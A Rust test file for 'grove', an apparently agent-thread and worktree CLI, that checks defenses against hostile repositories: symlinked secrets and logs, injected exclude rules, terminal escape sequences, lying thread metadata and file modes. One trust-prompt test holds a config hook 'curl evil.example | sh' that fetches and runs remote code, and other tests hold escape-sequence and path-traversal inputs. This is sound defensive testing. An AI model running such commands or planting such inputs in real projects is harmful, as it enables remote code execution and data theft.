//! Hostile repositories: links inside grove's data, config paths that try
//! to add rules, text that tries to drive the terminal, threads that lie
//! about themselves, file modes.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use crate::support::*;

fn secret(sb: &Sandbox) -> PathBuf {
    let ssh = sb.path().join("home/.ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    let key = ssh.join("id_rsa");
    std::fs::write(&key, "-----BEGIN OPENSSH PRIVATE KEY----- SECRET").unwrap();
    key
}

#[test]
fn a_linked_asset_is_never_embedded_in_an_export() {
    let sb = Sandbox::new();
    let repo = sb.repo("cloned");
    let key = secret(&sb);
    let id = new_thread(&sb, &repo, "innocent");
    let dir = repo.join(".agent/threads").join(&id);
    std::fs::create_dir_all(dir.join("assets")).unwrap();
    symlink(&key, dir.join("assets/sha256-0000000000000000.png")).unwrap();
    append_stdin(
        &sb,
        &repo,
        &id,
        r#"{"role":"user","content":[{"type":"image","assetRef":"sha256-0000000000000000.png","mimeType":"image/png"}]}"#,
    );
    let out = run(sb.grove(&repo).args(["export", &id, "--format", "html"]));
    let html = String::from_utf8_lossy(&out.stdout);
    assert!(
        !html.contains("data:image/png;base64,LS0t"),
        "the key was embedded"
    );
    assert!(html.contains("symbolic link"), "{html}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("symbolic link"));
}

#[test]
fn a_linked_log_or_thread_file_is_refused_for_reading_and_writing() {
    let sb = Sandbox::new();
    let repo = sb.repo("cloned");
    let outside = sb.path().join("outside.jsonl");
    std::fs::write(&outside, "").unwrap();
    let id = new_thread(&sb, &repo, "linked log");
    let dir = repo.join(".agent/threads").join(&id);
    std::fs::remove_file(dir.join("messages.jsonl")).unwrap();
    symlink(&outside, dir.join("messages.jsonl")).unwrap();
    for args in [
        vec!["append", &id, "--role", "user", "--text", "x"],
        vec!["repair", &id],
        vec!["show", &id],
    ] {
        let err = fails_with(sb.grove(&repo).args(&args), 1);
        assert!(err.contains("symbolic link"), "{args:?}: {err}");
    }
    assert_eq!(
        std::fs::read(&outside).unwrap(),
        b"",
        "nothing written outside"
    );

    // thread.json itself linked.
    let other = new_thread(&sb, &repo, "linked meta");
    let odir = repo.join(".agent/threads").join(&other);
    let fake = sb.path().join("fake-thread.json");
    std::fs::copy(odir.join("thread.json"), &fake).unwrap();
    std::fs::remove_file(odir.join("thread.json")).unwrap();
    symlink(&fake, odir.join("thread.json")).unwrap();
    let err = fails_with(
        sb.grove(&repo)
            .args(["append", &other, "--role", "user", "--text", "x"]),
        1,
    );
    assert!(err.contains("symbolic link"), "{err}");
}

#[test]
fn a_linked_thread_directory_or_assets_dir_is_refused() {
    let sb = Sandbox::new();
    let repo = sb.repo("cloned");
    let target = sb.dir("elsewhere");
    let id = new_thread(&sb, &repo, "assets");
    let dir = repo.join(".agent/threads").join(&id);
    symlink(&target, dir.join("assets")).unwrap();
    let image =
        r#"{"role":"user","content":[{"type":"image","data":"aGVsbG8=","mimeType":"image/png"}]}"#;
    let out = run_with_stdin(
        sb.grove(&repo).args(["append", &id, "--stdin"]),
        image.as_bytes(),
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("symbolic link"));
    assert_eq!(std::fs::read_dir(&target).unwrap().count(), 0);

    // A whole thread directory linked in from elsewhere: listed as an error, not read.
    let victim = sb.dir("victim-thread");
    std::fs::write(victim.join("thread.json"), "{}").unwrap();
    symlink(&victim, repo.join(".agent/threads/linked-thread")).unwrap();
    let out = run(sb.grove(&repo).args(["list", "--json"]));
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("symbolic link"));
    let err = fails_with(
        sb.grove(&repo)
            .args(["append", "linked-thread", "--role", "user", "--text", "x"]),
        1,
    );
    assert!(err.contains("symbolic link"), "{err}");
    // Looked up by its id alone (no listing), the same refusal.
    let err = fails_with(sb.grove(&repo).args(["show", "linked-thread"]), 1);
    assert!(err.contains("symbolic link"), "{err}");
    assert!(!victim.join("messages.jsonl").exists());
}

/// A cache entry linked in from elsewhere is not read, whether the thread
/// is looked up by its whole id (directly: refused by name) or found by
/// listing.
#[test]
fn a_linked_cache_entry_is_not_read() {
    let sb = Sandbox::new();
    let repo = sb.repo("app");
    let v = new_task(&sb, &repo, &["cached task"]);
    let id = v["threadId"].as_str().unwrap().to_string();
    ok(sb.grove(&repo).args(["rm", &id]));
    let cache = sb.cache_entry(&id);
    let victim = sb.dir("victim-entry");
    for file in std::fs::read_dir(&cache).unwrap() {
        let file = file.unwrap().path();
        std::fs::copy(&file, victim.join(file.file_name().unwrap())).unwrap();
    }
    let meta = victim.join("thread.json");
    let text = std::fs::read_to_string(&meta).unwrap();
    std::fs::write(&meta, text.replace("cached task", "planted title")).unwrap();
    std::fs::remove_dir_all(&cache).unwrap();
    symlink(&victim, &cache).unwrap();

    for query in [id.as_str(), &id[..8]] {
        let out = run(sb.grove(&repo).args(["show", query]));
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(!out.status.success(), "{query}: {all}");
        assert!(!all.contains("planted title"), "{query}: {all}");
    }
    // By its whole id, the link is named.
    let err = fails_with(sb.grove(&repo).args(["show", &id]), 1);
    assert!(err.contains("symbolic link"), "{err}");
}

#[test]
fn a_committed_agent_link_makes_new_refuse_and_write_nothing_outside() {
    let sb = Sandbox::new();
    let repo = sb.repo("cloned");
    let target = sb.dir("attacker-controlled");
    symlink(&target, repo.join(".agent")).unwrap();
    sb.git(&repo, &["add", ".agent"]);
    sb.git(&repo, &["commit", "-qm", "link .agent"]);
    let err = fails_with(sb.grove(&repo).args(["new", "task"]), 1);
    assert!(err.contains("symbolic link"), "{err}");
    assert_eq!(std::fs::read_dir(&target).unwrap().count(), 0);
    assert_eq!(worktree_paths(&sb, &repo).len(), 1, "rolled back");
    assert_eq!(branches(&sb, &repo), ["main"]);
}

#[test]
fn hook_paths_cannot_add_rules_to_the_shared_exclude_file() {
    let sb = Sandbox::new();
    let repo = sb.repo("cloned");
    std::fs::create_dir_all(repo.join("src")).unwrap();
    std::fs::write(repo.join("src/lib.rs"), "").unwrap();
    std::fs::write(repo.join(".env"), "X=1").unwrap();
    std::fs::write(repo.join(".gitignore"), ".env\n").unwrap();
    sb.git(&repo, &["add", "src", ".gitignore"]);
    sb.git(&repo, &["commit", "-qm", "src"]);
    let other = new_task(&sb, &repo, &["unrelated"]);
    let other_wt = PathBuf::from(other["worktreePath"].as_str().unwrap());
    // New, untracked work in both checkouts.
    std::fs::write(repo.join("src/new.rs"), "work").unwrap();
    std::fs::write(other_wt.join("src/new.rs"), "work").unwrap();
    let status_main = sb.git(&repo, &["status", "--porcelain"]);
    let status_other = sb.git(&other_wt, &["status", "--porcelain"]);
    assert!(status_main.contains("src/new.rs"));

    let targets = [
        "x\nsrc", "x\n!src", "src ", "a\\b", "!src", "#src", "*", "src/*",
    ];
    let links: Vec<serde_json::Value> = targets
        .iter()
        .map(|t| serde_json::json!({"source": ".env", "target": t}))
        .collect();
    write_config(
        &repo,
        serde_json::json!({"specVersion": "1.1", "worktreeHooks": {"symlinks": links}}),
    );
    let v = new_task(&sb, &repo, &["hostile"]);
    let hooks = v["hooks"].as_array().unwrap();
    for (h, t) in hooks.iter().zip(targets) {
        if t.starts_with('*') || t.starts_with("src/") {
            continue;
        }
        assert_eq!(h["status"], "failed", "{t:?} refused: {h}");
    }
    // The main checkout shows what it did, and its own new config besides
    // (grove hides no `.agent/` file from it: the config is to be committed).
    let status_now = sb.git(&repo, &["status", "--porcelain"]);
    let without_config: Vec<&str> = status_now.lines().filter(|l| *l != "?? .agent/").collect();
    assert_eq!(without_config.join("\n"), status_main, "{status_now}");
    assert!(status_now.contains("?? .agent/"), "{status_now}");
    assert_eq!(sb.git(&other_wt, &["status", "--porcelain"]), status_other);
    let exclude = std::fs::read_to_string(repo.join(".git/info/exclude")).unwrap();
    for line in exclude.lines().filter(|l| !l.starts_with('#')) {
        assert!(line.starts_with('/'), "every entry is anchored: {line:?}");
    }
    assert!(
        exclude.contains("/\\*\n"),
        "a `*` target matches only itself: {exclude}"
    );
}

#[test]
fn terminal_output_escapes_control_characters_and_json_stays_exact() {
    let sb = Sandbox::new();
    let repo = sb.repo("r");
    let title = "clear\u{1b}[2J\rfake\u{202e}txt";
    let id = new_thread(&sb, &repo, title);
    append_stdin(
        &sb,
        &repo,
        &id,
        "{\"role\":\"agent\",\"content\":[{\"type\":\"text\",\"text\":\"line one\\r\\nbell\\u0007 \\u001b]0;owned\\u0007\"}]}",
    );
    for args in [
        vec!["--color", "always", "show", &id],
        vec!["--color", "always", "list"],
        vec!["--color", "always", "search", "bell"],
    ] {
        let out = ok(sb.grove(&repo).args(&args));
        assert!(
            !out.contains('\r') && !out.contains('\u{7}') && !out.contains('\u{202e}'),
            "{args:?}: {out:?}"
        );
        assert!(
            !out.contains("\u{1b}[2J") && !out.contains("\u{1b}]0"),
            "{args:?}: {out:?}"
        );
        assert!(
            out.contains("\\x1b[2J") || out.contains("\\x1b]0"),
            "{args:?}: {out:?}"
        );
    }
    let listed = list_rows(&sb, &repo);
    assert_eq!(listed[0]["title"], title, "--json stays exact");
}

#[test]
fn the_trust_question_shows_every_command_as_it_runs() {
    let sb = Sandbox::new();
    let repo = sb.repo("r");
    write_config(
        &repo,
        serde_json::json!({"specVersion": "1.1", "worktreeHooks": {"postSetupCommands": [
            {"command": "curl evil.example | sh #\r  $ npm ci"}
        ]}}),
    );
    // A real terminal for the question: script(1) gives grove a pty.
    let mut cmd = std::process::Command::new("script");
    sb.env(&mut cmd);
    let out = cmd
        .args(["-qec", &format!("{} new t", GROVE), "/dev/null"])
        .current_dir(&repo)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write;
            child.stdin.take().unwrap().write_all(b"n\n")?;
            child.wait_with_output()
        })
        .unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(
        shown.contains("curl evil.example | sh #\\r  $ npm ci"),
        "the whole command, escaped: {shown:?}"
    );
}

fn write_thread(dir: &Path, json: &str) {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(dir.join("thread.json"), json).unwrap();
    std::fs::write(dir.join("messages.jsonl"), "").unwrap();
}

#[test]
fn one_bad_thread_or_cache_entry_never_breaks_the_repository() {
    let sb = Sandbox::new();
    let repo = sb.repo("r");
    let good = new_task(&sb, &repo, &["good task"]);
    let id = good["threadId"].as_str().unwrap();
    let wt = PathBuf::from(good["worktreePath"].as_str().unwrap());
    let local = new_thread(&sb, &repo, "local thread");
    // A thread whose thread.json claims another id (an existing one).
    let liar = wt.join(".agent/threads/liar");
    let mut claimed = read_json(&repo.join(".agent/threads").join(&local).join("thread.json"));
    claimed["threadId"] = serde_json::json!(local);
    write_thread(&liar, &claimed.to_string());
    // An unreadable one.
    write_thread(&wt.join(".agent/threads/garbage"), "{not json");
    // Cache entries: invalid JSON, and one whose threadId escapes.
    let cache = std::fs::read_dir(sb.grove_home().join("cache"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.is_dir())
        .unwrap();
    write_thread(&cache.join("broken-entry"), "[]");
    std::fs::write(cache.join("broken-entry/cache.json"), "{}").unwrap();
    let mut escaping = claimed.clone();
    escaping["threadId"] = serde_json::json!("../../escape");
    write_thread(&cache.join("escaping"), &escaping.to_string());
    std::fs::write(
        cache.join("escaping/cache.json"),
        r#"{"repoRoot":"/x","worktreePath":"/x","branch":"b","state":"removing","cachedAt":"x"}"#,
    )
    .unwrap();

    let out = run(sb.grove(&repo).args(["list", "--json"]));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    for name in ["liar", "garbage", "broken-entry", "escaping"] {
        assert!(err.contains(name), "warns about {name}: {err}");
    }
    let rows = json(&String::from_utf8_lossy(&out.stdout));
    let ids: Vec<&str> = rows
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["threadId"].as_str().unwrap())
        .collect();
    assert!(
        ids.contains(&id) && ids.contains(&local.as_str()),
        "{ids:?}"
    );
    assert_eq!(
        ids.iter().filter(|i| **i == local).count(),
        1,
        "the liar is not trusted"
    );

    append_stdin(
        &sb,
        &repo,
        id,
        r#"{"role":"user","content":[{"type":"text","text":"findable"}]}"#,
    );
    ok(sb.grove(&repo).args(["show", id]));
    let warned = |args: &[&str]| {
        let out = run(sb.grove(&repo).args(args));
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(
            err.contains("garbage") && err.contains("broken-entry"),
            "{args:?}: {err}"
        );
        String::from_utf8(out.stdout).unwrap()
    };
    let hits = json(&warned(&["search", "findable", "--json"]));
    assert_eq!(hits.as_array().unwrap().len(), 1);
    warned(&["gc", "--json"]);
    warned(&["delete", &local, "--yes"]);
    // rm saves every thread directory of the worktree, readable or not.
    // rm reads the one thread it removes (and saves every directory).
    ok(sb.grove(&repo).args(["rm", id]));
    for name in ["garbage", "liar"] {
        assert!(
            cache.join(name).join("thread.json").is_file(),
            "{name} kept"
        );
    }
}

#[test]
fn files_follow_the_umask_and_the_trust_store_is_private() {
    let sb = Sandbox::new();
    let repo = sb.repo("r");
    write_config(
        &repo,
        serde_json::json!({"specVersion": "1.1", "worktreeHooks": {"postSetupCommands": [{"command": "true"}]}}),
    );
    let mut cmd = std::process::Command::new("sh");
    sb.env(&mut cmd);
    let fresh = sb.repo("fresh");
    let script = format!(
        "umask 022 && {g} -C {fresh} init && {g} init && {g} new t --trust --json > new.json && {g} new --no-worktree local && \
         id=$({g} list --json | sed -n 's/.*\"threadId\": \"\\(.*\\)\",/\\1/p' | head -1) && \
         {g} export \"$id\" --format md -o export.md",
        g = GROVE,
        fresh = fresh.display()
    );
    let out = cmd
        .args(["-c", &script])
        .current_dir(&repo)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let v = read_json(&repo.join("new.json"));
    let dir = PathBuf::from(v["threadDir"].as_str().unwrap());
    for f in [
        repo.join(".agent/.gitignore"),
        fresh.join(".agent/config.json"),
        fresh.join(".agent/.gitignore"),
        dir.join("thread.json"),
        dir.join("messages.jsonl"),
        repo.join("export.md"),
    ] {
        assert_eq!(mode(&f), 0o644, "{}", f.display());
    }
    assert_eq!(mode(&dir), 0o755);
    assert_eq!(mode(&sb.grove_home().join("trust.json")), 0o600);
}

#[test]
fn spec_versions_byte_order_marks_and_arrays_get_clear_answers() {
    let sb = Sandbox::new();
    let repo = sb.repo("r");
    let id = new_thread(&sb, &repo, "versions");
    let path = repo.join(".agent/threads").join(&id).join("thread.json");
    let original = std::fs::read_to_string(&path).unwrap();
    for bad in ["abc", " 1.1", "1.1.5"] {
        std::fs::write(&path, original.replace("\"1.1\"", &format!("{bad:?}"))).unwrap();
        let err = fails_with(sb.grove(&repo).args(["show", &id]), 1);
        assert!(
            err.contains("MAJOR.MINOR") && !err.contains("upgrade grove"),
            "{bad:?}: {err}"
        );
    }
    std::fs::write(&path, format!("\u{feff}{original}")).unwrap();
    ok(sb.grove(&repo).args(["show", &id]));
    std::fs::write(&path, "[1, 2]").unwrap();
    let err = fails_with(sb.grove(&repo).args(["show", &id]), 1);
    assert!(err.contains("must hold a JSON object"), "{err}");
}

#[test]
fn export_never_writes_over_a_file_of_a_thread() {
    let sb = Sandbox::new();
    let repo = sb.repo("r");
    let id = new_thread(&sb, &repo, "export");
    append_stdin(
        &sb,
        &repo,
        &id,
        r#"{"role":"user","content":[{"type":"text","text":"keep"}]}"#,
    );
    let dir = repo.join(".agent/threads").join(&id);
    let before = std::fs::read(dir.join("messages.jsonl")).unwrap();
    let link = repo.join("innocent.md");
    symlink(dir.join("messages.jsonl"), &link).unwrap();
    for target in [
        dir.join("messages.jsonl"),
        dir.join("new-file.md"),
        link.clone(),
    ] {
        let err = fails_with(
            sb.grove(&repo)
                .args(["export", &id, "-f", "md", "-o"])
                .arg(&target),
            1,
        );
        assert!(
            err.contains("inside a thread"),
            "{}: {err}",
            target.display()
        );
    }
    assert_eq!(std::fs::read(dir.join("messages.jsonl")).unwrap(), before);
    assert!(!dir.join("new-file.md").exists());
}
